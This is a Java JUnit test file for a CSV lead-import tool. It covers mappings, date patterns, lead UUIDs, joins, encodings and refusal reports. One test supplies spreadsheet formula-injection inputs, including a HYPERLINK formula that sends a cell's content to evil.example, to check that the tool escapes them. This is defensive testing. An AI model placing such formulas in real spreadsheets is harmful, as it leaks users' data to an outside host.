package io.closedloop.lead.importing;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the import makes of files and mappings; {@link CsvDeliveryTest} says how it sends. */
class CsvImportTest {
    @TempDir
    Path folder;

    @Test
    void runsFromItsSourceAloneAndExplainsItself() throws Exception {
        var run = ImportTool.runSource(folder);

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).contains("--mapping is missing", "Usage: java tools/CsvImport.java");
    }

    @Test
    void makesCommandsOfRowsInTheOrderOfTheMapping() throws Exception {
        write("leads.csv", "id,mail,since\n17,ada@example.com,2026-03-01\n18,bob@example.com,2026-03-02\n");

        assertThat(commands("""
                        [files]
                        lead = leads.csv
                        [RegisterLead]
                        leadId = {id | uuid crm}
                        contact.email = {mail}
                        source.channel = EVENT
                        source.sourcedBy = MARKETING
                        occurredAt = {since | moment yyyy-MM-dd}
                        [QualifyMarketing]
                        leadId = {id | uuid crm}
                        """))
                .containsExactly(
                        "{\"command\":\"RegisterLead\",\"leadId\":\"edb550c5-a0d9-5fbf-a1d8-30fc3422893e\","
                                + "\"contact\":{\"email\":\"ada@example.com\"},"
                                + "\"source\":{\"channel\":\"EVENT\",\"sourcedBy\":\"MARKETING\"},"
                                + "\"occurredAt\":\"2026-03-01T00:00:00Z\"}",
                        "{\"command\":\"QualifyMarketing\",\"leadId\":\"edb550c5-a0d9-5fbf-a1d8-30fc3422893e\"}",
                        "{\"command\":\"RegisterLead\",\"leadId\":\"7d1aed38-b092-5843-b72a-86115e3a8e91\","
                                + "\"contact\":{\"email\":\"bob@example.com\"},"
                                + "\"source\":{\"channel\":\"EVENT\",\"sourcedBy\":\"MARKETING\"},"
                                + "\"occurredAt\":\"2026-03-02T00:00:00Z\"}",
                        "{\"command\":\"QualifyMarketing\",\"leadId\":\"7d1aed38-b092-5843-b72a-86115e3a8e91\"}");
    }

    @Test
    void takes32HexDigitsOrAUuidAsTheLeadIdAndMakesANameBasedOneOfEverythingElse() throws Exception {
        write("leads.csv", """
                id
                DAC32ACD4DB4C29C230538B72F8DD87D
                123E4567-e89b-12d3-a456-426614174000
                4711
                """);

        assertThat(touches("touchId = {id | uuid crm}"))
                .containsExactly(
                        "\"touchId\":\"dac32acd-4db4-c29c-2305-38b72f8dd87d\"",
                        "\"touchId\":\"123e4567-e89b-12d3-a456-426614174000\"",
                        // as Python has it: uuid.uuid5(uuid.NAMESPACE_URL, "crm:4711")
                        "\"touchId\":\"8381d90b-5f42-5c22-a87d-fe0fee6ba1bf\"");
    }

    @Test
    void readsQuotesSeparatorsAndLineBreaksInValuesAndSkipsByteOrderMarkAndBlankLines() throws Exception {
        write("leads.csv", "\uFEFFid,note\r\n1,\"a, \"\"b\"\"\r\nc\"\r\n\r\n2,plain 5\" pipe\r3,\"last\"");

        assertThat(touches("note = {note}"))
                .containsExactly(
                        "\"note\":\"a, \\\"b\\\"\\u000d\\u000ac\"",
                        "\"note\":\"plain 5\\\" pipe\"",
                        "\"note\":\"last\"");
    }

    @Test
    void readsSemicolonsAndTheEncodingsOfSpreadsheets() throws Exception {
        Files.write(
                folder.resolve("leads.csv"), "id;note\n1;Müller & Söhne\n".getBytes(Charset.forName("windows-1252")));

        assertThat(touches("note = {note}\n[settings]\nseparator = ;\nencoding = windows-1252"))
                .containsExactly("\"note\":\"Müller & Söhne\"");
    }

    @Test
    void stopsAtALineThatIsNotInTheEncodingAndSaysWhatToDo() throws Exception {
        Files.write(
                folder.resolve("leads.csv"), "id,note\n1,fine\n2,Müller\n".getBytes(Charset.forName("windows-1252")));

        assertThat(failure("[files]\nlead = leads.csv\n[RecordTouch]\nleadId = {id | uuid crm}\nnote = {note}"))
                .contains("leads.csv line 3 is not UTF-8", "encoding = windows-1252");
    }

    @Test
    void neverSendsARowWhoseKeyOrDateIsEmpty() throws Exception {
        write("leads.csv", "id,since,crm\n1,2026-03-01,a\n,2026-03-02,b\n3,,c\n4,2026-03-04,\n");

        write("mapping", """
                [files]
                lead = leads.csv
                [RegisterLead]
                leadId = {id | uuid crm}
                occurredAt = {since | moment yyyy-MM-dd}
                externalRef.system = crm
                externalRef.id = {crm}
                """);
        var run = ImportTool.run(folder, Map.of(), "--mapping", "mapping", "--write", "-");

        assertThat(run.exitCode()).isEqualTo(3);
        assertThat(run.out().lines()).hasSize(1);
        assertThat(Files.readAllLines(folder.resolve("refusals.csv")).stream().skip(1))
                .satisfiesExactly(
                        row -> assertThat(row).contains("RegisterLead", "not-sent", "leadId: the key is empty"),
                        row -> assertThat(row).contains("occurredAt: the date is empty", "or (empty)"),
                        row -> assertThat(row).contains("externalRef.id: the column is empty"));
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(folder.resolve("refusals.csv"))))
                .isEqualTo("rw-------");
    }

    @Test
    void leavesADateOutOnlyWhereTheMappingSaysSo() throws Exception {
        write("leads.csv", "id,closing\n1,2026-03-01\n2,\n");

        assertThat(touches("note = n\nexpectedCloseDate = {closing | or (empty) | day yyyy-MM-dd}"))
                .containsExactly("\"note\":\"n\",\"expectedCloseDate\":\"2026-03-01\"", "\"note\":\"n\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "dd.MM.yyyy hh:mm",
                "dd.MM.yyyy KK:mm",
                "yyyy-MM-dd mm:ss",
                "yyyy-MM-dd a",
                "dd.mm.yyyy",
                "dd.mm.yyyy HH:mm",
                "YYYY-MM-dd",
                "dd.MM HH:mm",
                "HH:mm"
            })
    void aPatternThatLosesWhatItReadsIsAMistakeOfTheMapping(String pattern) throws Exception {
        write("leads.csv", "id,since\n1,x\n");

        assertThat(failure(
                        "[files]\nlead = leads.csv\n[RecordTouch]\nleadId = {id | uuid crm}\noccurredAt = {since | moment "
                                + pattern + "}"))
                .contains("line 5", "the pattern \"" + pattern + "\" does not tell the");
    }

    @ParameterizedTest
    @CsvSource({
        "dd.MM.yyyy HH:mm, 24.11.2026 17:38, 2026-11-24T17:38:00Z",
        "dd/MM/yyyy hh:mm a, 24/11/2026 05:38 PM, 2026-11-24T17:38:00Z",
        "M/d/yy h a, 11/24/26 5 PM, 2026-11-24T17:00:00Z",
        "yyyy-MM-dd'T'HH:mm:ssXXX, 2026-11-24T17:38:59+01:00, 2026-11-24T16:38:59Z",
        "d MMM yyyy, 24 Nov 2026, 2026-11-24T00:00:00Z",
        "yyyyMMdd, 20261124, 2026-11-24T00:00:00Z"
    })
    void aPatternThatTellsEverythingIsTaken(String pattern, String cell, String moment) throws Exception {
        write("leads.csv", "id,since\n1," + cell + "\n");

        assertThat(touches("occurredAt = {since | moment " + pattern + "}"))
                .containsExactly("\"occurredAt\":\"" + moment + "\"");
    }

    @Test
    void joinsAnotherFileByItsKeyAndLeavesOutWhatIsEmpty() throws Exception {
        write("leads.csv", "id,name\n1,Ada\n2,\n3,Cy\n");
        write("deals.csv", "amount,lead\n\"1,054.00\",3\n20,1\n");

        assertThat(commands("""
                        [files]
                        lead = leads.csv by id
                        deal = deals.csv by lead
                        [RecordTouch]
                        leadId = {id | uuid crm}
                        note = Deal of {name}: {deal.amount}
                        [CloseWon]
                        only if {deal.amount}
                        leadId = {id | uuid crm}
                        amount.amount = {deal.amount | amount}
                        amount.currency = EUR
                        """))
                .extracting(line -> line.replaceFirst(",\"leadId\":\"[^\"]*\"", ""))
                .containsExactly(
                        "{\"command\":\"RecordTouch\",\"note\":\"Deal of Ada: 20\"}",
                        "{\"command\":\"CloseWon\",\"amount\":{\"amount\":\"20\",\"currency\":\"EUR\"}}",
                        "{\"command\":\"RecordTouch\"}",
                        "{\"command\":\"RecordTouch\",\"note\":\"Deal of Cy: 1,054.00\"}",
                        "{\"command\":\"CloseWon\",\"amount\":{\"amount\":\"1054.00\",\"currency\":\"EUR\"}}");
    }

    @Test
    void stopsAtAJoinedFileThatHasAKeyTwice() throws Exception {
        write("leads.csv", "id\n1\n");
        write("deals.csv", "lead,amount\n1,10\n2,20\n1,30\n");

        assertThat(failure("""
                        [files]
                        lead = leads.csv by id
                        deal = deals.csv by lead
                        [CloseWon]
                        leadId = {id | uuid crm}
                        """)).contains("deals.csv line 4 has the key \"1\" for the second time");
    }

    @Test
    void makesMomentsDaysNumbersTruthsAndLists() throws Exception {
        write("leads.csv", """
                id;won;day;size;called;topics
                1;31.03.2026 09:30;1.4.2026;1.054,5;Yes;"price; delivery ;"
                2;31.03.2026 00:00;;;;
                """);

        assertThat(touches("""
                        occurredAt = {won | moment dd.MM.yyyy HH:mm}
                        day = {day | or (empty) | day d.M.yyyy}
                        size = {size | number ,}
                        reachedHuman = {called | boolean}
                        questions = {topics | list ;}
                        fixed = true
                        text = "true"
                        type = {called | or no | upper}
                        [settings]
                        zone = Europe/Berlin
                        separator = ;
                        """))
                .containsExactly(
                        "\"occurredAt\":\"2026-03-31T07:30:00Z\",\"day\":\"2026-04-01\",\"size\":1054.5,"
                                + "\"reachedHuman\":true,\"questions\":[\"price\",\"delivery\"],"
                                + "\"fixed\":true,\"text\":\"true\",\"type\":\"YES\"",
                        "\"occurredAt\":\"2026-03-30T22:00:00Z\",\"fixed\":true,\"text\":\"true\",\"type\":\"NO\"");
    }

    @Test
    void translatesValuesWithoutRegardToCase() throws Exception {
        write("leads.csv", "id,origin\n1,Paid Search\n2,\n3,carrier pigeon\n");

        assertThat(touches("""
                        channel = {origin | values channel}
                        [values channel]
                        paid search = PAID_SEARCH
                        (empty) = DIRECT
                        (any other) = OTHER
                        """))
                .containsExactly("\"channel\":\"PAID_SEARCH\"", "\"channel\":\"DIRECT\"", "\"channel\":\"OTHER\"");
    }

    @Test
    void sendsACommandOnlyForTheRowsThatAreMeant() throws Exception {
        write("leads.csv", "id,status\n1,Won\n2,lost\n3,\n");

        assertThat(commands("""
                        [files]
                        lead = leads.csv
                        [CloseWon]
                        only if {status} is won, paid
                        leadId = {id | uuid crm}
                        rep = {id}
                        [CloseLost]
                        only if {status}
                        only if {status} is not won
                        leadId = {id | uuid crm}
                        rep = {id}
                        """))
                .satisfiesExactly(
                        won -> assertThat(won)
                                .startsWith("{\"command\":\"CloseWon\"")
                                .endsWith("\"rep\":\"1\"}"),
                        lost -> assertThat(lost)
                                .startsWith("{\"command\":\"CloseLost\"")
                                .endsWith("\"rep\":\"2\"}"));
    }

    @Test
    void endsARowBeforeTheCommandThatCannotBeMadeAndGoesOnWithTheNext() throws Exception {
        write("leads.csv", "id,won\n1,yesterday\n2,2026-03-01\n3\n");
        write("mapping", """
                [files]
                lead = leads.csv
                [QualifyMarketing]
                leadId = {id | uuid crm}
                [CloseWon]
                leadId = {id | uuid crm}
                occurredAt = {won | moment yyyy-MM-dd}
                [RecordRevenue]
                leadId = {id | uuid crm}
                """);

        var run = ImportTool.run(folder, Map.of(), "--mapping", "mapping", "--write", "out.ndjson");

        assertThat(run.exitCode()).isEqualTo(3);
        assertThat(Files.readAllLines(folder.resolve("out.ndjson")))
                .extracting(line -> line.replaceAll(".*\"command\":\"(\\w+)\".*", "$1"))
                .containsExactly("QualifyMarketing", "QualifyMarketing", "CloseWon", "RecordRevenue");
        assertThat(Files.readAllLines(folder.resolve("refusals.csv")))
                .containsExactly(
                        "row_line,command_line,command,status,code,detail,id,won",
                        "2,,CloseWon,,not-sent,\"occurredAt: \"\"yesterday\"\" is not a date of the form yyyy-MM-dd\",1,yesterday",
                        "4,,,,not-sent,the row does not have as many values as the header,3");
    }

    @Test
    void writesNoFormulaAmongTheRefusalsAndReadsThemBackAsTheyWere() throws Exception {
        List<String> notes = List.of(
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
                "+49 30 1",
                "-5",
                "@A1",
                "＝1",
                "a;=1,-2",
                "'spring'",
                "1-2");
        var rows = new StringBuilder("id,@note,won\n");
        for (String note : notes) {
            rows.append("1,\"%s\",yesterday\n".formatted(note.replace("\"", "\"\"")));
        }
        write("leads.csv", rows.toString());
        String mapping = """
                [files]
                lead = %s
                [CloseWon]
                leadId = {id | uuid crm}
                note = {@note}
                """;
        write("mapping", mapping.formatted("leads.csv") + "occurredAt = {won | moment yyyy-MM-dd}\n");

        ImportTool.run(folder, Map.of(), "--mapping", "mapping", "--write", "-");

        Path refusals = folder.resolve("refusals.csv");
        assertThat(Files.readAllLines(refusals))
                .extracting(line -> line.replaceFirst(".*(,id,|yyyy-MM-dd\",1,)(.*),(won|yesterday)$", "$2"))
                .containsExactly(
                        "'@note",
                        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\"",
                        "'+49 30 1",
                        "'-5",
                        "'@A1",
                        "'＝1",
                        "\"a;'=1,'-2\"",
                        "'spring'",
                        "1-2");
        Files.move(refusals, folder.resolve("corrected.csv"));
        assertThat(commands(mapping.formatted("corrected.csv")))
                .extracting(
                        line -> line.replaceFirst(".*\"note\":\"(.*)\"}$", "$1").replace("\\\"", "\""))
                .isEqualTo(notes);
    }

    @Test
    void saysWhichLineOfAMappingIsWrongBeforeAnythingIsSent() throws Exception {
        write("leads.csv", "id,mail\n1,a@example.com\n");
        String head = "[files]\nlead = leads.csv\n[RegisterLead]\nleadId = {id | uuid crm}\n";

        assertThat(failure(head + "contact.email = {email}")).contains("line 5", "no column \"email\"", "id, mail");
        assertThat(failure(head + "contact.email = {mail | lowercase}"))
                .contains("line 5", "unknown filter \"lowercase\"");
        assertThat(failure(head + "contact.email")).contains("line 5", "name = value");
        assertThat(failure(head + "occurredAt = {mail | moment bb}")).contains("line 5", "not a date pattern");
        assertThat(failure(head + "source.channel = {mail | values channel}")).contains("no section [values channel]");
        assertThat(failure(head + "[settings]\ntimezone = UTC")).contains("line 6", "none of the settings");
        assertThat(failure("[files]\nlead = leads.csv\n[RegisterLead]\ncontact.email = {mail}"))
                .contains("RegisterLead has no leadId", "the same row always means the same lead");
        assertThat(failure("[files]\nlead = people.csv\n[AssignLead]\nleadId = {id | uuid crm}"))
                .contains("people.csv", "--data");
    }

    @Test
    void needsNoMoreMemoryForManyRowsThanForFew() throws Exception {
        int rows = 150_000;
        String filler = "x".repeat(200);
        try (var leads = Files.newBufferedWriter(folder.resolve("leads.csv"));
                var deals = Files.newBufferedWriter(folder.resolve("deals.csv"))) {
            leads.write("id,text\n");
            deals.write("lead,text\n");
            for (int i = 0; i < rows; i++) {
                leads.write(i + "," + filler + "\n");
                deals.write((rows - 1 - i) + "," + filler + i + "\n");
            }
        }
        write("mapping", """
                [files]
                lead = leads.csv by id
                deal = deals.csv by lead
                [RecordTouch]
                leadId = {id | uuid crm}
                note = {deal.text}
                """);

        // Both files are larger than the heap of 32 MB.
        var run = ImportTool.run(folder, Map.of(), "--mapping", "mapping", "--write", "out.ndjson");

        assertThat(run.err()).contains("150,000 rows, 150,000 commands written");
        assertThat(run.exitCode()).isZero();
        try (var lines = Files.lines(folder.resolve("out.ndjson"))) {
            assertThat(lines.limit(2))
                    .satisfiesExactly(
                            first -> assertThat(first).endsWith(filler + "149999\"}"),
                            second -> assertThat(second).endsWith(filler + "149998\"}"));
        }
    }

    /** The fields behind the lead's id that a {@code RecordTouch} with {@code fields} gets, for each row. */
    private List<String> touches(String fields) throws IOException, InterruptedException {
        return commands("[files]\nlead = leads.csv\n[RecordTouch]\nleadId = {id | uuid crm}\n" + fields).stream()
                .map(line -> line.replaceFirst("^\\{\"command\":\"RecordTouch\",\"leadId\":\"[^\"]*\",", "")
                        .replaceFirst("}$", ""))
                .toList();
    }

    private List<String> commands(String mapping) throws IOException, InterruptedException {
        write("mapping", mapping);
        var run = ImportTool.run(folder, Map.of(), "--mapping", "mapping", "--write", "-");
        assertThat(run.exitCode()).as(run.err()).isZero();
        return run.out().lines().toList();
    }

    private String failure(String mapping) throws IOException, InterruptedException {
        write("mapping", mapping);
        var run = ImportTool.run(folder, Map.of(), "--mapping", "mapping", "--write", "-");
        assertThat(run.exitCode()).isEqualTo(1);
        return run.err();
    }

    private void write(String name, String content) throws IOException {
        Files.writeString(folder.resolve(name), content, UTF_8);
    }
}
